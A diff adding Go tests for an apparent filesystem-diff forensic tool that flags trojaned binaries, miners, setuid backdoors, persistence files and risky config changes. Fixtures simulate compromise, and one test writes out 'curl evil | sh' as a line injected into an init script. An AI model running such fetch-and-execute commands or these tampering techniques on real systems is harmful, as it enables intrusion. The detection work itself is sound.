+		}
+		for len(lb.Pending) > 0 {
+			fpath := lb.Pending[0]
+			lb.Pending = lb.Pending[1:]
+			if err := fsdiff.CompareFsAt(base.GetDir(fpath).Truncate(1), fsys, fpath, lb, diff.Add); err != nil {
+				t.Fatal(err)
+			}
+		}
+		name := fmt.Sprintf("fast=%v", fast)
+		checkPaths(t, name+" Added", diff.Added, []string{"opt/app/lib", "opt/app/lib.1"})
+		for _, e := range diff.Entries {
+			if e.Path == "opt/app/lib" && e.New.HardLink != "" {
+				t.Errorf("%s: first link has HardLink %q", name, e.New.HardLink)
+			}
+			if e.Path == "opt/app/lib.1" && e.New.HardLink != "opt/app/lib" {
+				t.Errorf("%s: second link has HardLink %q", name, e.New.HardLink)
+			}
+		}
+		// Probed files are read at most once
+		for _, fpath := range []string{"usr/lib/a", "usr/share/doc/c", "opt/app/bin", "opt/app/lib"} {
+			if n := fsys.opens[fpath]; n > 1 {
+				t.Errorf("%s: %s was opened %d times", name, fpath, n)
+			}
+		}
+		if fast {
+			// Only the stat of the changed file was compared
+			checkPaths(t, name+" Modified", diff.Modified, nil)
+			checkPaths(t, name+" Unhashed", strings.Fields(unhashed.String()), []string{"opt/app/bin", "usr/lib/a", "usr/share/doc/c"})
+			if n := fsys.opens["usr/share/doc/c"]; n != 0 {
+				t.Errorf("%s: unchanged file was opened %d times", name, n)
+			}
+		} else {
+			checkPaths(t, name+" Modified", diff.Modified, []string{"usr/share/doc/c"})
+		}
+	}
+}
+
+func TestHashSets(t *testing.T) {
+	sum := func(body string) string {
+		h := sha256.Sum256([]byte(body))
+		return hex.EncodeToString(h[:])
+	}
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "usr/bin/ps", Body: "ps"},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "usr/bin/ps", Body: "trojan"},
+		{Name: "opt/vendor/agent", Body: "agent"},
+		{Name: "tmp/miner", Body: "miner"},
+		{Name: "tmp/notes", Body: "notes"},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+
+	hs := fsdiff.NewHashSet()
+	good := "# approved vendor files\n" + strings.ToUpper(sum("agent")) + "  opt/vendor/agent\n"
+	if err := hs.Load(strings.NewReader(good), fsdiff.KnownGood); err != nil {
+		t.Fatal(err)
+	}
+	bad := "\"SHA-256\",\"FileName\"\n" +
+		"\"" + sum("miner") + "\",\"xmrig\"\n"
+	if err := hs.Load(strings.NewReader(bad), fsdiff.KnownBad); err != nil {
+		t.Fatal(err)
+	}
+	// Headers don't have to be quoted
+	bad = "SHA-1,MD5,SHA-256,FileName\n,," + sum("trojan") + ",ps\n"
+	if err := hs.Load(strings.NewReader(bad), fsdiff.KnownBad); err != nil {
+		t.Fatal(err)
+	}
+	if err := hs.Load(strings.NewReader("not-a-hash\n"), fsdiff.KnownBad); err == nil {
+		t.Error("expected an error for an invalid digest")
+	}
+
+	diff.TagHashes(hs)
+	checkPaths(t, "KnownGood", diff.KnownGood, []string{"opt/vendor/agent"})
+	checkPaths(t, "KnownBad", diff.KnownBad, []string{"tmp/miner", "usr/bin/ps"})
+	checkPaths(t, "KnownGoodAdded", diff.KnownGoodAdded(), []string{"opt/vendor/agent"})
+
+	var buf bytes.Buffer
+	if err := fsdiff.FormatKnownBad.Write(&buf, diff); err != nil {
+		t.Fatal(err)
+	}
+	if rows := strings.Count(buf.String(), "\n"); rows != 3 {
+		t.Errorf("expected a header and 2 known-bad rows, got %d lines", rows)
+	}
+}
+
+func TestVerifyPackages(t *testing.T) {
+	sum := func(body string) string {
+		h := md5.Sum([]byte(body))
+		return hex.EncodeToString(h[:])
+	}
+	root := t.TempDir()
+	writeFiles(t, root, map[string]string{
+		"var/lib/dpkg/info/coreutils.list": "/.\n/bin\n/bin/ls\n/bin/cat\n/bin/rm\n",
+		"var/lib/dpkg/info/coreutils.md5sums": sum("ls") + "  bin/ls\n" +
+			sum("cat") + "  bin/cat\n" + sum("rm") + "  bin/rm\n",
+		"var/lib/dpkg/info/base-files.list":    "/etc\n/etc/motd\n/etc/issue\n",
+		"var/lib/dpkg/info/base-files.md5sums": sum("debian") + "  etc/issue\n",
+		"var/lib/dpkg/status": "Package: base-files\nStatus: install ok installed\n" +
+			"Conffiles:\n /etc/motd " + sum("hello") + "\nDescription: base\n",
+		// The branding package replaces /etc/issue, moving the original aside
+		"var/lib/dpkg/info/branding:all.list":    "/etc/issue\n",
+		"var/lib/dpkg/info/branding:all.md5sums": sum("custom") + "  etc/issue\n",
+		"var/lib/dpkg/diversions":                "/etc/issue\n/etc/issue.debian\nbranding\n",
+		"usr/bin/ls":                             "ls",
+		"usr/bin/cat":                            "evil",
+		"etc/motd":                               "hello, edited",
+		"etc/issue":                              "custom",
+		"etc/issue.debian":                       "debian",
+		"tmp/dropper":                            "x",
+	})
+	// Merged /usr, the packages list files under /bin
+	if err := os.Symlink("usr/bin", filepath.Join(root, "bin")); err != nil {
+		t.Fatal(err)
+	}
+	fsys := fsdiff.NewOsFS(root)
+	db, err := fsdiff.ReadPackageDB(fsys)
+	if err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "Sources", db.Sources, []string{"dpkg"})
+
+	b := fsdiff.NewDirMetaBuilder(nil)
+	b.Excludes = []string{"var/lib/dpkg"}
+	diff := fsdiff.NewFsDiff()
+	if err := fsdiff.VerifyPackages(db, fsys, b, diff.Add); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "Added", diff.Added, []string{"tmp/dropper"})
+	checkPaths(t, "Modified", diff.Modified, []string{"etc/motd", "usr/bin/cat"})
+	checkPaths(t, "Removed", diff.Removed, []string{"usr/bin/rm"})
+	if b.Root != nil {
+		t.Error("the live tree should not be kept")
+	}
+
+	// Only the files that are checked against a digest or reported are read
+	counting := &countingFS{FS: fstest.MapFS{
+		"var/lib/dpkg/info/doc.list": &fstest.MapFile{Data: []byte("/usr/share/doc/README\n")},
+		"usr/share/doc/README":       &fstest.MapFile{Data: []byte("readme")},
+		"tmp/dropper":                &fstest.MapFile{Data: []byte("x")},
+	}, opens: make(map[string]int)}
+	if db, err = fsdiff.ReadPackageDB(counting); err != nil {
+		t.Fatal(err)
+	}
+	b = fsdiff.NewDirMetaBuilder(nil)
+	b.Excludes = []string{"var/lib/dpkg"}
+	diff = fsdiff.NewFsDiff()
+	if err := fsdiff.VerifyPackages(db, counting, b, diff.Add); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "Added", diff.Added, []string{"tmp/dropper"})
+	if counting.opens["usr/share/doc/README"] != 0 || counting.opens["tmp/dropper"] != 1 {
+		t.Errorf("got opens %v", counting.opens)
+	}
+
+	apk := fsdiff.NewPackageDB()
+	sha := sha1.Sum([]byte("busybox"))
+	installed := "P:busybox\nV:1.35\nF:bin\nR:busybox\na:0:0:755\nZ:Q1" +
+		base64.StdEncoding.EncodeToString(sha[:]) + "\n\n"
+	if err := apk.ReadApk(strings.NewReader(installed)); err != nil {
+		t.Fatal(err)
+	}
+	if pf := apk.Files["bin/busybox"]; pf == nil || pf.Algo != fsdiff.SHA1 || pf.Digest != hex.EncodeToString(sha[:]) {
+		t.Errorf("wrong apk entry %+v", pf)
+	}
+
+	// Output of 'rpm -qa --qf RPM_QUERY_FORMAT', directories have no digest
+	rpm := fsdiff.NewPackageDB()
+	rpmOut := "bash\t/usr/bin/bash\t8\td7fe6a85dbbdcd4ae2f0e3f5ef1ec1b7f0b4d2e4a9d0d2c6e0c7a1e2b43ed8e0\n" +
+		"bash\t/usr/share/doc/bash\t8\t\n" +
+		"libgcc\t/usr/lib64/libgcc_s.so.1\t(none)\t5C1A3D6E1C0A0F65A8E7A06A53A05C27\n"
+	if err := rpm.ReadRpm(strings.NewReader(rpmOut)); err != nil {
+		t.Fatal(err)
+	}
+	if pf := rpm.Files["usr/bin/bash"]; pf == nil || pf.Package != "bash" || pf.Algo != fsdiff.SHA256 ||
+		pf.Digest != "d7fe6a85dbbdcd4ae2f0e3f5ef1ec1b7f0b4d2e4a9d0d2c6e0c7a1e2b43ed8e0" {
+		t.Errorf("wrong rpm entry %+v", pf)
+	}
+	if pf := rpm.Files["usr/share/doc/bash"]; pf == nil || pf.Digest != "" {
+		t.Errorf("wrong rpm directory entry %+v", pf)
+	}
+	if pf := rpm.Files["usr/lib64/libgcc_s.so.1"]; pf == nil || pf.Algo != fsdiff.MD5 ||
+		pf.Digest != "5c1a3d6e1c0a0f65a8e7a06a53a05c27" {
+		t.Errorf("wrong legacy rpm entry %+v", pf)
+	}
+	if err := rpm.ReadRpm(strings.NewReader("bash\t/usr/bin/bash\n")); err == nil {
+		t.Error("expected an error for a malformed line")
+	}
+}
+
+func TestCompareOverlay(t *testing.T) {
+	dir := &fstest.MapFile{Mode: fs.ModeDir | 0755}
+	whiteout := &fstest.MapFile{Mode: fs.ModeDevice | fs.ModeCharDevice, Sys: &tar.Header{Typeflag: tar.TypeChar}}
+	opaque := &fstest.MapFile{Mode: fs.ModeDir | 0755, Sys: &tar.Header{
+		Typeflag:   tar.TypeDir,
+		PAXRecords: map[string]string{fsdiff.PAX_XATTR_PREFIX + "trusted.overlay.opaque": "y"},
+	}}
+	file := func(body string) *fstest.MapFile {
+		return &fstest.MapFile{Data: []byte(body), Mode: 0644}
+	}
+	// Upper entries with overlayfs attributes
+	withXattrs := func(mf *fstest.MapFile, xattrs map[string]string) *fstest.MapFile {
+		hdr := &tar.Header{Typeflag: tar.TypeReg, PAXRecords: make(map[string]string)}
+		if mf.Mode.IsDir() {
+			hdr.Typeflag = tar.TypeDir
+		}
+		for key, value := range xattrs {
+			hdr.PAXRecords[fsdiff.PAX_XATTR_PREFIX+key] = value
+		}
+		mf.Sys = hdr
+		return mf
+	}
+	top := fstest.MapFS{
+		"etc":         dir,
+		"etc/passwd":  file("root"),
+		"etc/hosts":   file("localhost"),
+		"var":         dir,
+		"var/cache":   dir,
+		"var/cache/a": file("a"),
+	}
+	bottom := fstest.MapFS{
+		"usr":                  dir,
+		"usr/bin":              dir,
+		"usr/bin/ls":           file("ls"),
+		"usr/bin/cat":          file("cat"),
+		"var":                  dir,
+		"var/cache":            dir,
+		"var/cache/b":          file("b"),
+		"opt":                  dir,
+		"opt/app":              dir,
+		"opt/app/x":            file("x"),
+		"srv":                  dir,
+		"srv/www":              dir,
+		"srv/www/index.html":   file("index"),
+		"srv/www/css":          dir,
+		"srv/www/css/site.css": file("css"),
+	}
+	upper := fstest.MapFS{
+		"etc":        dir,
+		"etc/passwd": file("root,evil"),
+		"etc/hosts":  whiteout,
+		"usr":        dir,
+		"usr/bin":    dir,
+		"usr/bin/ls": file("ls"),
+		// Only the mode changed, the contents are still in the lower layer
+		"usr/bin/cat": withXattrs(&fstest.MapFile{Mode: 0755}, map[string]string{"trusted.overlay.metacopy": ""}),
+		"var":         dir,
+		"var/cache":   opaque,
+		"var/cache/b": file("b"),
+		"opt":         dir,
+		"opt/app":     whiteout,
+		"tmp":         dir,
+		"tmp/miner":   file("miner"),
+		// A metadata-only copy renamed from the removed directory
+		"tmp/x": withXattrs(&fstest.MapFile{Mode: 0644}, map[string]string{
+			"trusted.overlay.metacopy": "", "trusted.overlay.redirect": "/opt/app/x"}),
+		// srv/www was renamed to srv/site, which only holds what was added since
+		"srv":     dir,
+		"srv/www": whiteout,
+		"srv/site": withXattrs(&fstest.MapFile{Mode: fs.ModeDir | 0755}, map[string]string{
+			"trusted.overlay.redirect": "www"}),
+		"srv/site/new.html": file("new"),
+	}
+	diff := fsdiff.NewFsDiff()
+	b := fsdiff.NewDirMetaBuilder(nil)
+	if err := fsdiff.CompareOverlay(upper, []fs.FS{top, bottom}, b, diff.Add); err != nil {
+		t.Fatal(err)
+	}
+	if len(b.PathErrors) > 0 {
+		t.Errorf("got errors %v", b.PathErrors)
+	}
+	checkPaths(t, "Added", diff.Added, []string{"srv/site/css/site.css", "srv/site/index.html", "srv/site/new.html", "tmp/miner", "tmp/x"})
+	checkPaths(t, "AddedDirs", diff.AddedDirs, []string{"srv/site", "srv/site/css", "tmp"})
+	checkPaths(t, "Modified", diff.Modified, []string{"etc/passwd"})
+	checkPaths(t, "MetaModified", diff.MetaModified, []string{"usr/bin/cat"})
+	checkPaths(t, "Removed", diff.Removed, []string{"etc/hosts", "opt/app/x", "srv/www/css/site.css", "srv/www/index.html", "var/cache/a"})
+	checkPaths(t, "RemovedDirs", diff.RemovedDirs, []string{"opt/app", "srv/www", "srv/www/css"})
+	checkPaths(t, "MetaModifiedDirs", diff.MetaModifiedDirs, nil)
+	for _, e := range diff.Entries {
+		if e.Path == "tmp/x" && (e.New.Size != 1 || e.New.Xattrs != nil) {
+			t.Errorf("metadata-only copy has %+v", e.New)
+		}
+	}
+	// The renamed files are moves, the lower layers being the base
+	diff.DetectMoves(fsdiff.NewDirMeta(""))
+	checkPaths(t, "Moved", diff.Moved, []string{"srv/site/css/site.css", "srv/site/index.html", "tmp/x"})
+	checkPaths(t, "Added", diff.Added, []string{"srv/site/new.html", "tmp/miner"})
+
+	// Without the lower layers everything is new, and the contents of metadata-only
+	// copies are missing
+	diff = fsdiff.NewFsDiff()
+	b = fsdiff.NewDirMetaBuilder(nil)
+	if err := fsdiff.CompareOverlay(upper, nil, b, diff.Add); err != nil {
+		t.Fatal(err)
+	}
+	checkPaths(t, "Added", diff.Added, []string{"etc/passwd", "srv/site/new.html", "tmp/miner", "tmp/x", "usr/bin/cat", "usr/bin/ls", "var/cache/b"})
+	checkPaths(t, "Removed", diff.Removed, nil)
+	checkPaths(t, "PathErrors", maps.Keys(b.PathErrors), []string{"tmp/x", "usr/bin/cat"})
+}
+
+func TestCompactTree(t *testing.T) {
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "bin/busybox", Body: "busybox", Mode: 0755},
+		{Name: "bin/sh", Link: "busybox"},
+		{Name: "bin/ash", Link: "busybox"},
+		{Name: "dev/null", Type: tar.TypeChar, Dev: [2]int64{1, 3}},
+		{Name: "etc/passwd", Body: "root"},
+		{Name: "usr/lib/libc.so", Body: "libc", Xattrs: map[string]string{"security.capability": "x"}},
+		{Name: "var/"},
+		// Outside of the range of nanosecond timestamps
+		{Name: "opt/future", Body: "f", ModTime: time.Date(2600, 1, 1, 0, 0, 0, 0, time.UTC)},
+		{Name: "opt/past", Body: "p", ModTime: time.Date(1500, 1, 1, 0, 0, 0, 0, time.UTC)},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "bin/busybox", Body: "busybox", Mode: 0755},
+		{Name: "bin/sh", Link: "/tmp/evil"},
+		{Name: "bin/vi", HardLink: "bin/busybox"},
+		{Name: "dev/null", Type: tar.TypeChar, Dev: [2]int64{1, 5}},
+		{Name: "etc/passwd", Body: "root,evil", Uid: 1000},
+		{Name: "usr/lib/libc.so", Body: "libc"},
+		{Name: "var", Body: "not a dir"},
+		{Name: "opt/future", Body: "f", ModTime: time.Date(2600, 1, 1, 0, 0, 1, 0, time.UTC)},
+		{Name: "opt/past", Body: "p", ModTime: time.Date(1500, 1, 1, 0, 0, 0, 0, time.UTC)},
+	})
+	base.UpdateTreeHash()
+	live.UpdateTreeHash()
+	want := fsdiff.NewFsDiff()
+	if err := want.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+	got := fsdiff.NewFsDiff()
+	if err := got.CompareCompact(fsdiff.NewCompactTree(base), fsdiff.NewCompactTree(live)); err != nil {
+		t.Fatal(err)
+	}
+	summary := func(d *fsdiff.FsDiff) []string {
+		lines := make([]string, 0)
+		for _, e := range d.Entries {
+			lines = append(lines, e.Kind.String()+" "+e.Path)
+		}
+		slices.Sort(lines)
+		return lines
+	}
+	checkPaths(t, "Entries", summary(got), summary(want))
+
+	// Unpacking gives back the same tree, including partial directories
+	for _, dm := range []*fsdiff.DirMeta{base, base.Truncate(1)} {
+		var buf bytes.Buffer
+		if err := fsdiff.WriteDirMeta(&buf, dm); err != nil {
+			t.Fatal(err)
+		}
+		unpacked, err := fsdiff.ReadDirMeta(&buf)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if unpacked.TreeHash != dm.TreeHash || unpacked.CountTree() != dm.CountTree() {
+			t.Errorf("unpacked tree differs: %d entries, hash %s", unpacked.CountTree(), unpacked.TreeHash)
+		}
+		if bin := unpacked.GetDir("bin"); bin == nil || bin.Partial != dm.GetDir("bin").Partial {
+			t.Errorf("bin lost its Partial flag")
+		}
+		if unpacked.UpdateTreeHash() != dm.TreeHash {
+			t.Errorf("unpacked tree hashes differently")
+		}
+	}
+
+	// Filtering and truncating give the same trees as on a DirMeta
+	rules, err := fsdiff.ParseRuleLines([]string{"bin/sh", "usr/lib"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ct := fsdiff.NewCompactTree(base)
+	for name, pair := range map[string][2]*fsdiff.DirMeta{
+		"Filter":   {rules.Filter(base), ct.Filter(rules).DirMeta()},
+		"Truncate": {base.Truncate(1), ct.Truncate(1).DirMeta()},
+		"Subtree":  {base.GetDir("usr").Truncate(1), ct.Subtree("usr").Truncate(1).DirMeta()},
+	} {
+		want, got := pair[0], pair[1]
+		if got.TreeHash != want.TreeHash || got.StatHash != want.StatHash || got.CountTree() != want.CountTree() {
+			t.Errorf("%s: got %d entries with hash %s, expected %d with %s", name,
+				got.CountTree(), got.TreeHash, want.CountTree(), want.TreeHash)
+		}
+	}
+	if ct.Subtree("etc/passwd") != nil || ct.Subtree("nope") != nil {
+		t.Errorf("Subtree found a directory that doesn't exist")
+	}
+}
+
+func TestFindPrivEsc(t *testing.T) {
+	// Version 2 capabilities with cap_net_raw permitted and effective
+	netRaw := string([]byte{1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0})
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "bin/su", Body: "su", Mode: 04755},
+		{Name: "usr/bin/ping", Body: "ping"},
+		{Name: "etc/shadow", Body: "root", Mode: 0640},
+		{Name: "tmp/", Mode: 01777},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "bin/su", Body: "backdoor", Mode: 04755},
+		{Name: "bin/newsu", Body: "sh", Mode: 04755},
+		{Name: "usr/bin/ping", Body: "ping", Xattrs: map[string]string{fsdiff.CAPABILITY_XATTR: netRaw}},
+		{Name: "etc/shadow", Body: "root", Mode: 0666},
+		{Name: "tmp/", Mode: 0777},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+	found := make([]string, 0)
+	for _, item := range fsdiff.FindPrivEsc(diff) {
+		found = append(found, item.Path+" "+item.Kind.String()+" "+item.Status.String())
+	}
+	checkPaths(t, "FindPrivEsc", found, []string{
+		"bin/newsu setuid new",
+		"bin/su setuid changed",
+		"etc/shadow world-writable new",
+		"tmp sticky removed",
+		"tmp world-writable changed",
+		"usr/bin/ping capability new",
+	})
+	if caps := fsdiff.FormatCapabilities([]byte(netRaw)); caps != "cap_net_raw=ep" {
+		t.Errorf("wrong capabilities %q", caps)
+	}
+}
+
+func TestFindPersistence(t *testing.T) {
+	base := buildTarMeta(t, []tarEntry{
+		{Name: "etc/passwd", Body: "root"},
+		{Name: "etc/pam.d/sshd", Body: "auth"},
+		{Name: "etc/hostname", Body: "pod"},
+		{Name: "root/.bashrc", Body: "alias"},
+	})
+	live := buildTarMeta(t, []tarEntry{
+		{Name: "etc/passwd", Body: "root,toor"},
+		{Name: "etc/hostname", Body: "pod2"},
+		{Name: "etc/ld.so.preload", Body: "/tmp/x.so"},
+		{Name: "etc/cron.d/"},
+		{Name: "etc/cron.d/miner", Body: "* * * * *"},
+		{Name: "etc/systemd/system/evil.service", Body: "[Service]"},
+		{Name: "home/app/.ssh/authorized_keys", Body: "ssh-ed25519"},
+		{Name: "root/.bashrc", Body: "alias", Mode: 0777},
+	})
+	diff := fsdiff.NewFsDiff()
+	if err := diff.Compare(base, live); err != nil {
+		t.Fatal(err)
+	}
+	found := make([]string, 0)
+	for _, f := range fsdiff.FindPersistence(diff) {
+		found = append(found, f.Path+" "+f.Category+" "+f.Severity.String())
+	}
+	checkPaths(t, "FindPersistence", found, []string{
+		"etc/cron.d/miner cron high",
+		"etc/ld.so.preload preload critical",
+		"etc/pam.d/sshd pam high",
+		"etc/passwd accounts critical",
+		"etc/systemd/system/evil.service systemd high",
+		"home/app/.ssh/authorized_keys ssh critical",
+		"root/.bashrc shell medium",
+	})
+}
+
+func TestDiffConfig(t *testing.T) {
+	summary := func(changes []fsdiff.ConfigChange) []string {
+		out := make([]string, 0)
+		for _, c := range changes {
+			out = append(out, fmt.Sprintf("%s %s %s->%s %v", c.Kind, c.Key, c.Old, c.New, c.Notes))
+		}
+		return out
+	}
+	passwd := fsdiff.DiffConfig("etc/passwd",
+		[]byte("root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n"),
+		[]byte("root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/bash\ntoor:x:0:0::/:/bin/sh\n"))
+	checkPaths(t, "passwd", summary(passwd), []string{
+		"added toor ->x:0:0::/:/bin/sh [uid 0 gid 0]",
+		"modified app x:1000:1000::/home/app:/bin/sh->x:1000:1000::/home/app:/bin/bash []",
+	})
+	// A hash kept in passwd itself is redacted like in shadow
+	passwd = fsdiff.DiffConfig("etc/passwd", nil, []byte("svc:$1$salt$hash:0:0::/:/bin/sh\n"))
+	if len(passwd) != 1 || strings.Contains(passwd[0].New, "$1$") || !strings.HasPrefix(passwd[0].New, "<hash ") {
+		t.Errorf("passwd: password hash not replaced: %v", summary(passwd))
+	}
+	shadow := fsdiff.DiffConfig("/etc/shadow",
+		[]byte("root:!:19000:0:99999:7:::\n"),
+		[]byte("root:$6$salt$hash:19000:0:99999:7:::\n"))
+	if len(shadow) != 1 || strings.Contains(shadow[0].New, "$6$") || !strings.HasPrefix(shadow[0].New, "<hash ") {
+		t.Errorf("shadow: password hash not replaced: %v", summary(shadow))
+	}
+	hosts := fsdiff.DiffConfig("etc/hosts",
+		[]byte("127.0.0.1 localhost\n10.0.0.1 db # primary\n"),
+		[]byte("127.0.0.1 localhost\n10.6.6.6 db\n10.0.0.2 cache\n"))
+	checkPaths(t, "hosts", summary(hosts), []string{
+		"added cache ->10.0.0.2 []",
+		"modified db 10.0.0.1->10.6.6.6 []",
+	})
+	resolv := fsdiff.DiffConfig("etc/resolv.conf",
+		[]byte("nameserver 10.96.0.10\nsearch default.svc.cluster.local\n"),
+		[]byte("nameserver 1.2.3.4\nsearch default.svc.cluster.local\n"))
+	checkPaths(t, "resolv.conf", summary(resolv), []string{
+		"added nameserver 1.2.3.4 ->1.2.3.4 []",
+		"removed nameserver 10.96.0.10 10.96.0.10-> []",
+	})
+	sshd := fsdiff.DiffConfig("etc/ssh/sshd_config",
+		[]byte("PermitRootLogin no\nPort 22\n"),
+		[]byte("PermitRootLogin yes\nPort\t22\nMatch User git\n  ForceCommand /bin/sh\n"))
+	checkPaths(t, "sshd_config", summary(sshd), []string{
+		"added match User git ->User git []",
+		"added match User git/forcecommand ->/bin/sh [forcecommand set]",
+		"modified permitrootlogin no->yes [root login allowed]",
+	})
+	if fsdiff.IsConfigFile("etc/motd") || fsdiff.DiffConfig("etc/motd", nil, []byte("hi")) != nil {
+		t.Error("etc/motd should not be a config file")
+	}
+}
+
+func TestUnifiedDiff(t *testing.T) {
+	lines := func(from, to int) string {
+		var sb strings.Builder
+		for i := from; i <= to; i++ {
+			fmt.Fprintf(&sb, "line %d\n", i)
+		}
+		return sb.String()
+	}
+	old := lines(1, 20)
+	// One injected line near the start, one changed line near the end, and no final newline
+	live := lines(1, 2) + "curl evil | sh\n" + lines(3, 17) + "LINE 18\n" + lines(19, 19) + "line 20"
+	got := fsdiff.UnifiedDiff("etc/init.d/app", []byte(old), []byte(live))
+	want := "--- a/etc/init.d/app\n+++ b/etc/init.d/app\n" +
+		"@@ -1,5 +1,6 @@\n line 1\n line 2\n+curl evil | sh\n line 3\n line 4\n line 5\n" +
+		"@@ -15,6 +16,6 @@\n line 15\n line 16\n line 17\n-line 18\n+LINE 18\n line 19\n-line 20\n+line 20\n\\ No newline at end of file\n"
+	if got != want {
+		t.Errorf("UnifiedDiff: got\n%s\nwant\n%s", got, want)
+	}
+	if fsdiff.UnifiedDiff("same", []byte(old), []byte(old)) != "" {
+		t.Error("UnifiedDiff of identical contents should be empty")
+	}
+	if got := fsdiff.UnifiedDiff("new", nil, []byte("a\n")); got != "--- a/new\n+++ b/new\n@@ -0,0 +1 @@\n+a\n" {
+		t.Errorf("UnifiedDiff from empty: got %q", got)
+	}
+	if !fsdiff.IsText([]byte(old)) || fsdiff.IsText([]byte("ELF\x00\x01")) {
+		t.Error("IsText misdetected")
+	}
+}
+
+func TestTagElfs(t *testing.T) {
+	exe, err := os.Executable()
+	if err != nil {
+		t.Skip(err)
+	}
+	data, err := os.ReadFile(exe)
+	if err != nil || !fsdiff.IsElf(data) {
+		t.Skip("test binary is not an ELF file")
+	}
+	// UPX leaves its magic in the trailer, appending it doesn't break parsing
+	packed := append(append([]byte(nil), data...), "UPX!"...)
+	fsys := fstest.MapFS{
+		"usr/bin/tool":   {Data: data, Mode: 0755},
+		"tmp/.x/kworker": {Data: packed, Mode: 0755},
+		"etc/motd":       {Data: []byte("hello, world\n")},
+		"usr/bin/moved":  {Data: data, Mode: 0755},
+		"usr/bin/copied": {Data: data, Mode: 0755},
+	}
+	// Only added and modified files are triaged
+	kinds := map[string]fsdiff.ChangeKind{"usr/bin/moved": fsdiff.Moved, "usr/bin/copied": fsdiff.Copied}
+	diff := fsdiff.NewFsDiff()
+	for fpath, f := range fsys {
+		fm := &fsdiff.FileMeta{Name: filepath.Base(fpath), Mode: f.Mode, Size: int64(len(f.Data))}
+		kind, ok := kinds[fpath]
+		if !ok {
+			kind = fsdiff.Added
+		}
+		if err := diff.Add(&fsdiff.DiffEntry{Path: fpath, Kind: kind, New: fm}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	diff.TagElfs(fsys, 2)
+	reports := make(map[string]*fsdiff.ElfReport)
+	for _, e := range diff.Entries {
+		if e.Elf != nil {
+			reports[e.Path] = e.Elf
+		}
+	}
+	tool := reports["usr/bin/tool"]
+	if tool == nil || len(reports) != 2 {
+		t.Fatalf("TagElfs: got reports for %v", maps.Keys(reports))
+	}
+	if tool.Machine == "" || tool.Bits == 0 || tool.Packer != "" || len(tool.SuspiciousSections) > 0 {
+		t.Errorf("usr/bin/tool: unexpected report %+v", tool)
+	}
+	if p := reports["tmp/.x/kworker"].Packer; p != "upx" {
+		t.Errorf("tmp/.x/kworker: got packer %q, want upx", p)
+	}
+
+	// A file that makes the analysis panic only fails by itself
+	if rep, err := fsdiff.AnalyzeElfFile(panicFS{}, "usr/bin/tool"); rep != nil || err == nil {
+		t.Errorf("expected an error for a panic, got %v", rep)
+	}
+	diff.TagElfs(panicFS{}, 2)
+}
+
+// Panics when a file is opened, like a parser hitting a malformed file
+type panicFS struct{}
+
+func (panicFS) Open(name string) (fs.File, error) {
+	panic("malformed " + name)
+}